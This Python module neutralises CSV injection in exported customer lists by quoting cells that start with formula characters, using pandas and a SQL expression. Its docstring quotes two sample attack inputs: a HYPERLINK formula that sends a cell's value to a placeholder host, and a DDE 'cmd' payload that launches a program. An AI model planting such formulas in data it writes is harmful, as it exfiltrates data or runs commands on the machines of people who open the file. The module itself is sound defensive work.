"""CSV lists that open safely in Excel and WPS: formula-leading cells neutralised.

A customer id, a product name or a campaign label such as ``=HYPERLINK("http://x/?"&A1,"点击")``
or ``+cmd|' /C calc'!A0`` is run as a formula when operations open the list in a spreadsheet
(CSV injection, OWASP). Every CSV crmlab writes passes through :func:`write_csv` (pandas) or
:func:`neutralise_sql` (engine-side), which prefix a text cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return with a single quote ``'`` — OWASP's recommendation.
Numbers are numbers and are never touched (``-12.5`` stays ``-12.5``).

The change is reversible for machines: :func:`restore_cell` strips the quote again, and the
CLI's ``--csv-raw`` writes cells exactly as they are (for a pipeline that needs exact ids and
never opens the file in a spreadsheet).
"""
from __future__ import annotations

from typing import Any

import pandas as pd

__all__ = ["FORMULA_LEADS", "neutralise_cell", "restore_cell", "neutralise_frame", "write_csv",
           "neutralise_sql"]

#: first characters that make Excel, WPS or LibreOffice read a cell as a formula
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text starting a formula; anything else as is."""
    if isinstance(value, str) and value.startswith(FORMULA_LEADS):
        return "'" + value
    return value


def restore_cell(value: Any) -> Any:
    """The inverse of :func:`neutralise_cell`: the quote removed from a neutralised cell."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_LEADS):
        return value[1:]
    return value


def _neutralise_labels(labels: pd.Index) -> pd.Index:
    if isinstance(labels, pd.MultiIndex):
        return labels.set_levels([_neutralise_labels(lv) for lv in labels.levels])
    if labels.dtype == object or pd.api.types.is_string_dtype(labels.dtype):
        return labels.map(neutralise_cell)
    return labels


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells, index labels and column names are neutralised."""
    out = frame.copy()
    for col in out.columns:
        s = out[col]
        if s.dtype == object or pd.api.types.is_string_dtype(s.dtype) or isinstance(s.dtype, pd.CategoricalDtype):
            out[col] = s.astype(object).map(neutralise_cell)
    out.index = _neutralise_labels(out.index)
    out.columns = _neutralise_labels(pd.Index([str(c) if not isinstance(c, str) else c for c in out.columns])) \
        if not isinstance(out.columns, pd.MultiIndex) else _neutralise_labels(out.columns)
    if frame.index.names is not None:
        out.index.names = [neutralise_cell(n) for n in frame.index.names]
    return out


def write_csv(frame: pd.DataFrame, path, *, raw: bool = False, **to_csv_kw) -> None:
    """Write ``frame`` as CSV with formula-leading text cells neutralised (unless ``raw``).

    ``to_csv_kw`` goes to :meth:`pandas.DataFrame.to_csv` (``index``, ``float_format`` ...)."""
    (frame if raw else neutralise_frame(frame)).to_csv(path, **to_csv_kw)


def neutralise_sql(column_sql: str) -> str:
    """A SQL expression (DuckDB and Spark SQL) that neutralises the text column ``column_sql``
    the way :func:`neutralise_cell` does."""
    c = column_sql
    return (f"CASE WHEN substr({c}, 1, 1) IN ('=', '+', '-', '@', chr(9), chr(13)) "
            f"THEN concat('''', {c}) ELSE {c} END")
